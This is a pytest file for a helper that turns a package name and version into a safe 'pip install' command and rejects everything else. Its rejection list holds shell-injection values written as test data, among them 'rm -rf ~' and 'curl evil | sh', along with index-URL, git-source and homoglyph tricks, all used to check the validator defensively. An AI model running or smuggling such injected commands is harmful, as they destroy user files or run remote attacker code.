"""A stranger's bundle names packages; what a reader may paste into a shell holds nothing else."""

from __future__ import annotations

import pytest

from llmb.reproduction.install import pip_install


def test_a_released_version_is_installed_by_name_and_version() -> None:
    assert pip_install("llmb-acme", "1.2") == "pip install llmb-acme==1.2"


def test_a_build_of_a_version_is_named_apart_because_no_common_index_has_it() -> None:
    assert pip_install("torch", "2.8.0+x128") == "pip install torch==2.8.0 (its build +x128)"


@pytest.mark.parametrize(
    ("distribution", "version"),
    [
        ("llmb; rm -rf ~", "1.2"),
        ("llmb-acme", "1.2 --index-url=evil"),
        ("llmb-acme", "1.2; curl evil | sh"),
        ("-r", "1.2"),
        ("--pre", "1.2"),
        ("git+evil", "1.2"),
        ("a/b", "1.2"),
        ("", "1.2"),
        ("llmb-acme\n", "1.2"),
        ("llmb-acme", "1.2\n"),
        ("llmb-\u0430cme", "1.2"),
        ("llmb-acme", "unknown"),
        ("llmb-acme", ""),
        ("a" * 101, "1.2"),
        ("torch", "2.14.0a0.dev5"),
    ],
)
def test_what_is_no_plain_name_and_version_gives_no_command(
    distribution: str, version: str
) -> None:
    assert pip_install(distribution, version) is None
